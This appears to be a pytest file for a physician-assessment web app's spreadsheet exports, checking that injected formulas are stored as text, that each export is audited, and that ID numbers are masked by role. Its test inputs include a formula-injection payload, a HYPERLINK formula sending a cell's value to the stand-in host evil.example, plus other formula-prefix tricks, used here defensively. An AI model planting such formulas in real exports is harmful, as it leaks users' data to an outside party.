"""Exports (issue 16): every cell a value (no formula injection), every export audited with
who, the filters and the row count, ID numbers whole only for the roles that need them, and
no cache may keep them."""

from __future__ import annotations

import io

import httpx
from openpyxl import load_workbook

from models.enums import OrgKind, Role
from models.ops import AuditLog
from models.org import Account
from tests import factories
from tests.helpers import login

EVIL = '=HYPERLINK("http://evil.example/?id="&B2,"详情")'
TRICKS = (EVIL, "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=1+1")


def cells(content: bytes) -> list[tuple[object, str]]:
    """(value, type) of every cell of the workbook's first sheet, read back by openpyxl."""
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row if c.value is not None]


async def test_no_exported_cell_is_a_formula(client: httpx.AsyncClient, db: None) -> None:
    await factories.period()
    assessor = await factories.organisation(OrgKind.ASSESSOR)
    made = [
        await factories.organisation(OrgKind.INSTITUTION, assessor=assessor, name=name)
        for name in TRICKS
    ]
    for inst in made:
        await factories.physician(inst)
    _, office = await factories.org_with_account(OrgKind.OFFICE)
    await login(client, office.username)
    prefecture = (await factories.prefecture()).id
    for url in (
        "/physicians/export.xlsx",
        f"/office/statistics/export.xlsx?prefecture={prefecture}",
    ):
        exported = await client.get(url)
        assert exported.status_code == 200, url
        found = cells(exported.content)
        assert not [v for v, kind in found if kind == "f"], url
        texts = {v for v, kind in found if kind == "s"}
        written = {t.replace("\r", "\n") for t in TRICKS}  # XML reads a lone CR as LF
        assert written <= texts, (url, written - texts)

    sheet = load_workbook(io.BytesIO((await client.get("/physicians/export.xlsx")).content)).active
    assert sheet is not None
    evil = next(c for row in sheet.iter_rows() for c in row if c.value == EVIL)
    assert evil.quotePrefix  # stays text even when the cell is edited in Excel


async def test_every_export_is_audited(client: httpx.AsyncClient, db: None) -> None:
    period = await factories.period()
    inst, inst_acct = await factories.org_with_account(OrgKind.INSTITUTION)
    for _ in range(3):
        await factories.physician(inst)
    _, office = await factories.org_with_account(OrgKind.OFFICE)
    commission, commission_acct = await factories.org_with_account(OrgKind.COMMISSION)

    await login(client, inst_acct.username)
    assert (await client.get("/physicians/export.xlsx?status=approved&q=测试")).status_code == 200
    entry = await AuditLog.filter(action="data_exported").order_by("-id").first()
    assert entry is not None and entry.actor_id == inst_acct.id and entry.ip == "203.0.113.7"
    assert entry.detail["export"] == "考核信息" and entry.detail["rows"] == 3
    assert entry.detail["filters"] == {"status": "approved", "q": "测试"}

    client.cookies.clear()
    await login(client, office.username)
    for url, name in (
        (f"/office/results/export.xlsx?period={period.id}", f"考核结果_{period.name}"),
        ("/office/statistics/export.xlsx", "统计分析_各地州市"),
    ):
        assert (await client.get(url)).status_code == 200
        entry = await AuditLog.filter(action="data_exported").order_by("-id").first()
        assert entry is not None and entry.actor_id == office.id
        assert entry.detail["export"] == name and entry.detail["filters"]["period"] == str(
            period.id
        )
    client.cookies.clear()
    await login(client, commission_acct.username)
    assert (await client.get("/commission/statistics/export.xlsx")).status_code == 200
    entry = await AuditLog.filter(action="data_exported").order_by("-id").first()
    assert entry is not None and entry.actor_id == commission_acct.id
    assert entry.detail["rows"] >= 1 and commission.prefecture_id is not None

    audit_page = await client.get("/office/audit?action=data_exported")
    assert audit_page.status_code == 403  # only the office reads the log
    client.cookies.clear()
    await login(client, office.username)
    shown = await client.get("/office/audit?action=data_exported")
    assert "导出数据" in shown.text and "考核信息" in shown.text


async def test_id_numbers_are_whole_only_where_the_role_needs_them(
    client: httpx.AsyncClient, db: None
) -> None:
    assessor, assessor_acct = await factories.org_with_account(OrgKind.ASSESSOR)
    inst = await factories.organisation(OrgKind.INSTITUTION, assessor=assessor)
    inst_acct = await factories.account(Role.INSTITUTION, inst)
    doc = await factories.physician(inst)
    _, commission = await factories.org_with_account(OrgKind.COMMISSION)
    _, office = await factories.org_with_account(OrgKind.OFFICE)
    masked = doc.id_number[:6] + "********" + doc.id_number[-4:]
    expected = {
        inst_acct.id: doc.id_number,
        office.id: doc.id_number,
        assessor_acct.id: masked,
        commission.id: masked,
    }
    for account_id, shown in expected.items():
        account = await Account.get(id=account_id)
        client.cookies.clear()
        await login(client, account.username)
        exported = await client.get(f"/physicians/export.xlsx?q={doc.name}")
        assert exported.headers["cache-control"] == "no-store"
        rows = [v for v, _ in cells(exported.content)]
        assert shown in rows, account.role
        if shown == masked:
            assert doc.id_number not in rows
        listed = await client.get(f"/physicians?q={doc.name}")
        assert masked in listed.text and doc.id_number not in listed.text
